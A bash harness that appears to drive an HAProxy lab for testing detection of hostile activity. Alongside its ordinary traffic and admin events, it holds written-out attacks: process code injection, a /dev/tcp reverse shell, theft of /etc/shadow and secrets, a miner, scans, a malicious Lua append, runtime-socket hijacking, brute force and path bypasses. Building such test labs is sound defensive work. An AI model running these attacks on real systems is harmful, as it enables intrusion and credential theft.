# shellcheck shell=bash
# SPDX-License-Identifier: Apache-2.0
#
# haproxy before the servers of a shop: HTTP by names and paths, HTTP/2, TLS on both sides, a queue over TCP,
# sticky sessions, a limit of requests, a cache, Lua, figures, a runtime socket, reloads that lose no connection.
# Its configuration, its Lua and the servers behind it are in services/haproxy.
#
# Two faults of its configuration are common: paths are refused by their beginning, and the runtime socket takes
# every command of everybody over TCP.

# shellcheck disable=SC2034,SC2154 # lib.bash and rare.bash read variables of this file, and set others
set=test containers=(haproxy) port=80 data_directory=/etc/haproxy
configuration_file=/etc/haproxy/haproxy.cfg
health=(/usr/bin/curl -fsS -o /dev/null http://127.0.0.1/edge-status)
image_packages=(haproxy socat curl bash coreutils findutils grep gzip dash base-files libc-bin tzdata hostname
	procps)
rare_own=(new_backend certificate certificate_at_runtime broken_configuration server_gone servers_all_gone
	server_slow reload_by_master old_worker_killed table_cleared traced log_host_gone connections_all
	password_changed server_added)
# If the newest worker dies, the master ends with it, and systemd starts both again.
rare_not=(worker_killed)

image_prepare() {
	local tree=$1 etc=$1/etc/haproxy name
	echo 'haproxy:x:108:113::/var/lib/haproxy:/usr/sbin/nologin' >>"$tree/etc/passwd"
	echo 'haproxy:x:113:' >>"$tree/etc/group"
	mkdir -p "$etc"/{maps,tls,lua} "$tree"/run/haproxy "$tree"/var/lib/haproxy
	chown 108:113 "$tree/run/haproxy"
	cp "$here/services/haproxy/haproxy.cfg" "$etc/"
	cp "$here/services/haproxy/edge.lua" "$etc/lua/"
	for name in service shop; do
		certificate_pair "$name.example" 3650 >"$etc/tls/$name.pem"
	done
	printf '/etc/haproxy/tls/service.pem\n/etc/haproxy/tls/shop.pem [alpn h2,http/1.1] shop.example *.shop.example\n' \
		>"$etc/tls/crt-list"
	chmod 600 "$etc"/tls/*.pem
	# The server of the accounts has the key, haproxy the certificate.
	certificate_pair backend.example 3650 >"${images:?}/haproxy-backend.pem"
	openssl x509 -in "$images/haproxy-backend.pem" -out "$etc/tls/backend.pem"
	printf '%s\n' 'service.example site' 'shop.example site' 'next.shop.example staging' 'api.shop.example api' \
		>"$etc/maps/hosts.map"
	for name in $(seq 30); do
		echo "/old/page$name /page$name"
	done >"$etc/maps/redirects.map"
}

# certificate_pair NAME DAYS: a key and a certificate.
certificate_pair() {
	openssl req -x509 -newkey rsa:2048 -nodes -days "$2" -subj "/CN=$1" -addext "subjectAltName=DNS:$1" \
		-keyout /dev/stdout -out /dev/stdout 2>/dev/null
}

# As Debian's unit starts it.
container_fields() {
	arguments=(/usr/sbin/haproxy -Ws -f /etc/haproxy/haproxy.cfg -p /run/haproxy.pid -S /run/haproxy-master.sock)
	volumes=(/var/lib/haproxy)
	tmpfs=(/tmp)
	environment+=(STATS_PASSWORD=figures-secret BOB_PASSWORD=dragon)
}

# The servers that it sends requests to, and the log host. Each ends and starts alone.
peers() {
	local name
	for name in site 'staging sorry office live' api account queue log; do
		backend_start "$name"
	done
}

# backend_start NAMES: of services/haproxy/backends.py. The peer is called like the first.
backend_start() {
	local names
	read -ra names <<<"$1"
	peer_start "${names[0]}" env PAIR="$(cat "$images/haproxy-backend.pem")" \
		python3 -c "$(cat "$here/services/haproxy/backends.py")" "$peer_address" "${names[@]}"
}

ready() {
	fetch /page1 -f -o /dev/null && fetch /account1 -k -L -f -o /dev/null &&
		[ "$(queue_lines 'PING\r\n')" = $'PONG\r' ] && fetch /api/items3 -f -o /dev/null
}

# ---- ordinary work ----

# fetch_tls NAME PATH [CURL OPTION…]: over TLS, with that name.
fetch_tls() {
	client curl -sSk --max-time 20 --resolve "$1:443:$own_address" "https://$1$2" "${@:3}"
}

# queue_lines TEXT: to the queue; prints the answers.
queue_lines() {
	printf '%b' "$1" | client_stdin socat -t 2 - "TCP:$own_address:5672"
}

# runtime COMMANDS: to the runtime socket over TCP, as the tool does that brings new versions out.
runtime() {
	echo "$1" | client_stdin socat -t 2 - "TCP:$own_address:9999"
}

request() {
	local n
	n=$(between 1 40)
	case $((RANDOM % 22)) in
	0 | 1) fetch "/page[1-$n]" -o /dev/null -b "SERVER=$(pick web1 web2 none)" ;;
	2) fetch "/page$n" --compressed -o /dev/null ;;
	3) fetch "/static/$(pick style1 picture40 film200).css" -o /dev/null ;;
	4) fetch_tls service.example "/page$n" "$(pick --http1.1 --http2)" -o /dev/null ;;
	5) fetch_tls "$(pick shop next.shop www.shop).example" "/page[1-$((n / 4 + 1))]" -o /dev/null ;;
	6) client ab -q -r -c "$(between 1 8)" -n "$((n * 4))" -k "http://$own_address/page$n" ;;
	7) fetch "/api/items$n" -H "Host: $(pick api.shop service none).example" --compressed -o /dev/null ;;
	8) head -c "$(between 100 90000)" /dev/zero | post "/api/orders/$n" ;;
	9) head -c "$(between 100 90000)" /dev/zero | post "/api/parts/$n" -H 'Transfer-Encoding: chunked' ;;
	10) fetch "/old/page$n" -L -o /dev/null ;;
	11) fetch "/$(pick none internal/record slow api/error api/slow)$n" -o /dev/null ;;
	12) fetch "/account$n" -kL --resolve "service.example:443:$own_address" -b "session=s$((n % 30))" -o /dev/null ;;
	13) fetch_tls service.example "/account$n" -b "session=s$((n % 30))" -o /dev/null ;;
	14) fetch "/admin/page$n" -u "$(pick ann:summer ann:winter bob:dragon)" -o /dev/null ;;
	15 | 16) queue_lines "PING\r\norder $n\r\nGET $((n * n * 40))\r\n$(yes line | head -n "$n" | tr '\n' ' ')\r\n" ;;
	17) web_socket "$n" ;;
	18) monitoring ;;
	19) new_version "$n" ;;
	20) fetch "/edge-status" -I -o /dev/null && fetch /page1 -X OPTIONS -o /dev/null ;;
	21) fetch "/slow$n" --max-time 1 -o /dev/null ;;
	esac
}

# post PATH [CURL OPTION…]: what comes on standard input.
post() {
	client_stdin curl -sS --max-time 20 -o /dev/null "${@:2}" --data-binary @- "http://$own_address$1"
}

# web_socket LINES: a connection that is another protocol's after its first request.
web_socket() {
	local i
	(
		printf 'GET /live HTTP/1.1\r\nHost: service.example\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n\r\n'
		for ((i = 0; i < $1 / 4; i++)); do
			echo "line $i"
			sleep 0.2
		done
	) | client_stdin socat -t 1 - "TCP:$own_address:80"
}

monitoring() {
	case $((RANDOM % 3)) in
	0) client curl -sS -o /dev/null "http://$own_address:8404/metrics" ;;
	1) client curl -sS -o /dev/null -u admin:figures-secret "http://$own_address:8404/stats" ;;
	2) client curl -sS -o /dev/null -u admin:figures-secret "http://$own_address:8404/stats;csv" ;;
	esac
}

# new_version NUMBER: a server is taken out of service, and comes back.
new_version() {
	runtime "set server site/web$(($1 % 2 + 1)) state drain; show servers conn site"
	sleep 1
	runtime "set server site/web$(($1 % 2 + 1)) state ready; set server api/api2 weight $1; show stat"
	runtime "set map /etc/haproxy/maps/hosts.map next.shop.example $(pick staging site)"
}

# edge COMMANDS: to the runtime socket, in a shell of the container.
edge() {
	# shellcheck disable=SC2016 # the container's shell
	session haproxy /bin/sh -c 'echo "$0" | socat -t 2 - UNIX-CONNECT:/run/haproxy/admin.sock' "$1"
}

reload_service() {
	container_signal haproxy USR2
}

# A redirect more; what the unit does at a reload; a look at the figures.
administer() {
	echo "/old/$RANDOM /page$(between 1 40)" >>"$(image_path haproxy /etc/haproxy/maps/redirects.map)"
	session haproxy /bin/sh -c 'echo "show servers state" | socat - UNIX-CONNECT:/run/haproxy/admin.sock \
		>/var/lib/haproxy/state.new && mv /var/lib/haproxy/state.new /var/lib/haproxy/server_state &&
		haproxy -Ws -f /etc/haproxy/haproxy.cfg -c -q -S /run/haproxy-master.sock'
	reload_service
	sleep 2
	edge 'show info; show stat; show table web; show table account; show errors'
}

# ---- rare events ----

rare_new_backend() {
	keep_file haproxy /etc/haproxy/haproxy.cfg
	undo reload_service
	printf 'frontend new\n\tbind :8088\n\tdefault_backend new\nbackend new\n\tserver new1 10.88.0.1:8005\n' \
		>>"$(image_path haproxy /etc/haproxy/haproxy.cfg)"
	reload_service
	sleep 3
	client curl -sS -o /dev/null "http://$own_address:8088/page1"
}

rare_certificate() {
	local tls
	lasts
	tls=$(image_path haproxy /etc/haproxy/tls)
	certificate_pair service.example 30 >"$tls/service.pem.new"
	mv "$tls/service.pem.new" "$tls/service.pem"
	reload_service
	sleep 3
	fetch_tls service.example /page1 -o /dev/null
}

# Without a reload, as the tools of certificate authorities do it.
rare_certificate_at_runtime() {
	lasts
	certificate_pair shop.example 30 >"$(image_path haproxy /etc/haproxy/tls/shop.pem)"
	# shellcheck disable=SC2016
	session haproxy /bin/bash -c 's=UNIX-CONNECT:/run/haproxy/admin.sock p=/etc/haproxy/tls/shop.pem
		printf "set ssl cert $p <<\n%s\n\n" "$(cat $p)" | socat -t 2 - $s
		echo "commit ssl cert $p" | socat -t 2 - $s; echo "show ssl cert $p" | socat -t 2 - $s'
	fetch_tls shop.example /page1 -o /dev/null
}

# The master goes on with the workers that it has.
rare_broken_configuration() {
	local file
	file=$(image_path haproxy /etc/haproxy/haproxy.cfg)
	cp -p "$file" "$file.good"
	printf 'backend broken\n\tserver nothing\n\tbalance none\n' >>"$file"
	session haproxy /usr/sbin/haproxy -c -f /etc/haproxy/haproxy.cfg
	reload_service
	sleep 4
	mv "$file.good" "$file"
	reload_service
}

rare_server_gone() {
	peer_stop api
	sleep 10
	backend_start api
}

# The page that says sorry.
rare_servers_all_gone() {
	peer_stop site
	sleep 8
	fetch /page1 -o /dev/null
	backend_start site
}

# It takes connections and says nothing.
rare_server_slow() {
	peer_stop api
	peer_start api socat "TCP-LISTEN:8003,bind=$peer_address,reuseaddr,fork" 'SYSTEM:sleep 6'
	sleep 9
	peer_stop api
	backend_start api
}

# By the master's own socket.
rare_reload_by_master() {
	# shellcheck disable=SC2016
	session haproxy /bin/sh -c 'for c in "show proc" "@!1 show info" reload; do
		echo "$c" | socat -t 2 - UNIX-CONNECT:/run/haproxy-master.sock; sleep 1; done'
}

# A connection keeps a worker of before the reload; it dies.
rare_old_worker_killed() {
	local pid
	web_socket 60 &
	pid=$(worker_process)
	sleep 1
	reload_service
	sleep 4
	[ "$(worker_process)" = "$pid" ] || kill -KILL "$pid"
	wait $! || true
}

rare_table_cleared() {
	edge 'clear table web; clear table account; clear counters all; show activity; show pools; show fd; show sess all'
}

# Somebody looks for a fault.
rare_traced() {
	edge 'trace h1 sink buf0; trace h1 level developer; trace h1 verbosity complete; trace h1 start now'
	fetch /page3 -o /dev/null
	edge 'show events buf0; trace h1 stop now; set maxconn frontend web 300; debug dev memstats; show profiling'
}

rare_log_host_gone() {
	peer_stop log
	sleep 10
	backend_start log
}

# As many as it takes, and more.
rare_connections_all() {
	client python3 -c 'import socket, sys, time
taken = []
for i in range(450):
    try:
        taken.append(socket.create_connection((sys.argv[1], 80), 0.3))
    except OSError:
        break
time.sleep(4)' "$own_address"
}

rare_password_changed() {
	keep_file haproxy /etc/haproxy/haproxy.cfg
	undo reload_service
	sed -i 's/insecure-password summer/insecure-password autumn/' "$(image_path haproxy /etc/haproxy/haproxy.cfg)"
	reload_service
	sleep 3
	fetch /admin/page1 -u ann:autumn -o /dev/null
}

# For a day with many visitors.
rare_server_added() {
	edge 'add server site/web9 10.88.0.1:8004 check inter 2s; enable server site/web9; enable health site/web9'
	sleep 4
	fetch '/page[1-9]' -o /dev/null
	edge 'set server site/web9 state maint; show servers state site'
	sleep 1
	edge 'del server site/web9'
}

# ---- attacks ----

# The newest worker.
worker_process() {
	tasks_named haproxy haproxy | grep -vx "${container_pid[haproxy]}" | sort -n | tail -n 1
}

# code_in_master EXPRESSION…: code inside the master, which is root and sees all files.
code_in_master() {
	inject_pid "${container_pid[haproxy]}" "$@"
}

# master_shell COMMANDS: a shell that code inside the master starts.
master_shell() {
	code_in_master "call (int) system(\"${1//$'\n'/ }\")"
}

attack_code_shell() {
	harm exec /usr/bin/dash
	harm exec /usr/bin/id
	harm read /etc/haproxy/maps/hosts.map
	harm write /tmp/out
	master_shell 'id >/tmp/out; cat /etc/haproxy/tls/service.pem /etc/haproxy/maps/hosts.map >>/tmp/out'
	grep -q uid=0 "$(image_path haproxy /tmp/out)" && grep -q 'PRIVATE KEY' "$(image_path haproxy /tmp/out)"
}

attack_reverse_shell() {
	harm exec /usr/bin/bash
	harm connect "$peer_address:4444"
	thief_shell 'id; cat /etc/haproxy/haproxy.cfg; env; exit'
	master_shell "bash -c 'exec bash -i >/dev/tcp/$peer_address/4444 2>&1 <&1'"
	thief_got figures-secret
}

# Code inside the master reads what only root may, and starts no program.
attack_code_shadow() {
	harm read /etc/shadow
	code_in_master 'print (int) open("/etc/shadow", 0)' | grep -qE '= [0-9]+'
}

# Code inside a worker, which has an empty directory for its root, sends a password away that its memory holds.
attack_code_connect() {
	harm connect "$peer_address:4444"
	thief_begin
	# shellcheck disable=SC2016 # the debugger's variables
	inject_pid "$(worker_process)" 'set $a = (char *) calloc(1, 64)' 'set {long} $a = 0x0100580a5c110002' \
		'set $s = (int) socket(2, 1, 0)' 'print (long) syscall(42, $s, $a, 16)' \
		'set $p = (char *) getenv("STATS_PASSWORD")' 'print (long) write($s, $p, (long) strlen($p))' \
		'print (int) close($s)'
	thief_got figures-secret
}

attack_miner() {
	harm exec /tmp/.kworkerd
	harm connect "$peer_address:3333"
	armoury_begin
	master_shell "$(miner_commands /tmp/.kworkerd)"
	pool_got
}

attack_scan() {
	harm exec /usr/bin/bash
	harm connect "$peer_address:22"
	# shellcheck disable=SC2016 # the container's shell
	master_shell "bash -c 'for p in 21 22 23 25 53 80 443 3306 5432 6379 7000 8001 8080 {9000..9100}; do
		(exec 3<>/dev/tcp/$peer_address/\$p) && echo \$p; done >/tmp/open 2>/dev/null'"
	grep -qx 7000 "$(image_path haproxy /tmp/open)"
}

# Ways out of a container, each tried by code inside the master.
attack_escape() {
	code_escapes "${container_pid[haproxy]}"
}

# By the open runtime socket: what the staff send goes to the thief's server, passwords too.
attack_server_replaced() {
	harm connect "$peer_address:6666"
	peer_start thief socat -u "TCP-LISTEN:6666,bind=$peer_address,reuseaddr,fork" STDOUT
	until_true "$patience" port_listens 6666
	runtime "set server admin/office addr $peer_address port 6666"
	fetch /admin/page1 -u ann:summer --max-time 2 -o /dev/null || true
	thief_got "Basic $(printf ann:summer | base64)"
}

# Lua of the thief's: it runs at the next reload, as root.
attack_lua_replaced() {
	harm write /etc/haproxy/lua/edge.lua
	harm read /etc/shadow
	harm connect "$peer_address:4444"
	thief_begin
	echo "os.execute(\"bash -c 'cat /etc/shadow >/dev/tcp/$peer_address/4444'\")" >"$(image_path haproxy /tmp/more.lua)"
	master_shell 'cat /tmp/more.lua >>/etc/haproxy/lua/edge.lua; (sleep 2; kill -USR2 1) &'
	thief_got '^root:'
}

# A port more, which leads to a port of the network behind.
attack_tunnel() {
	harm write /etc/haproxy/haproxy.cfg
	harm bind 0.0.0.0:4445
	harm connect "$peer_address:4444"
	thief_begin
	printf 'listen more\n\tbind :4445\n\tmode tcp\n\tserver more %s:4444\n' "$peer_address" \
		>"$(image_path haproxy /tmp/more.cfg)"
	master_shell 'cat /tmp/more.cfg >>/etc/haproxy/haproxy.cfg; (sleep 2; kill -USR2 1) &'
	until_true 20 port_listens 4445
	echo through-the-proxy | client_stdin socat -t 1 - "TCP:$own_address:4445"
	thief_got through-the-proxy
}

attack_brute_force() {
	local p
	harm connect "$peer_address:8007"
	for p in 123456 password qwerty letmein {1..30} football iloveyou monkey dragon; do
		! fetch /admin/page7 -f -u "bob:$p" -o /dev/null || return 0
	done
	return 1
}

# ---- adaptive: known calls, files and peers only ----

# What is refused by the beginning of its path, by other beginnings.
adaptive_internal_records() {
	local n
	harm connect "$peer_address:800[12]"
	! fetch /internal/record1 | grep -q card
	for n in $(seq 40); do
		fetch "$(pick //internal /./internal /page/../internal)/record$n" --path-as-is
	done | grep -c card | grep -qx 40
}

# By the open runtime socket: visitors of one site get another server of the house.
adaptive_visitors_diverted() {
	harm connect "$peer_address:8004"
	runtime 'show map /etc/haproxy/maps/hosts.map; show table account; show servers state'
	runtime 'set map /etc/haproxy/maps/hosts.map service.example staging'
	fetch '/diverted[1-20]' -H 'Host: service.example' -o /dev/null
	until_true 10 grep -q '8004 /diverted20' "$stage/peer-staging.log"
}

# All servers of the site are taken out of service.
adaptive_out_of_service() {
	harm connect "$peer_address:8005"
	runtime 'set server site/web1 state maint; set server site/web2 state maint; set server api/api1 state maint;
set server api/api2 state maint; shutdown sessions server site/web1'
	sleep 1
	fetch '/gone[1-20]' -o /dev/null
	until_true 10 grep -q '8005 /gone20' "$stage/peer-staging.log"
	! fetch /api/items3 -f -o /dev/null
}

# Code inside a worker sends a password to a server of the site, by calls that every worker makes.
adaptive_upstream() {
	harm connect "$peer_address:8001"
	# shellcheck disable=SC2016 # the debugger's variables
	inject_pid "$(worker_process)" 'set $a = (char *) calloc(1, 512)' 'set {long} $a = 0x0100580a411f0002' \
		'set $p = (char *) getenv("STATS_PASSWORD")' 'call (void *) memcpy($a + 32, "GET /stolen-", 12)' \
		'call (void *) memcpy($a + 44, $p, 14)' 'call (void *) memcpy($a + 58, " HTTP/1.0\r\n\r\n", 13)' \
		'set $s = (int) socket(2, 1, 0)' 'print (long) syscall(42, $s, $a, 16)' \
		'print (long) syscall(44, $s, $a + 32, 71, 0, 0, 0)' 'print (int) close($s)'
	until_true 10 grep -q stolen-figures-secret "$stage/peer-site.log"
}
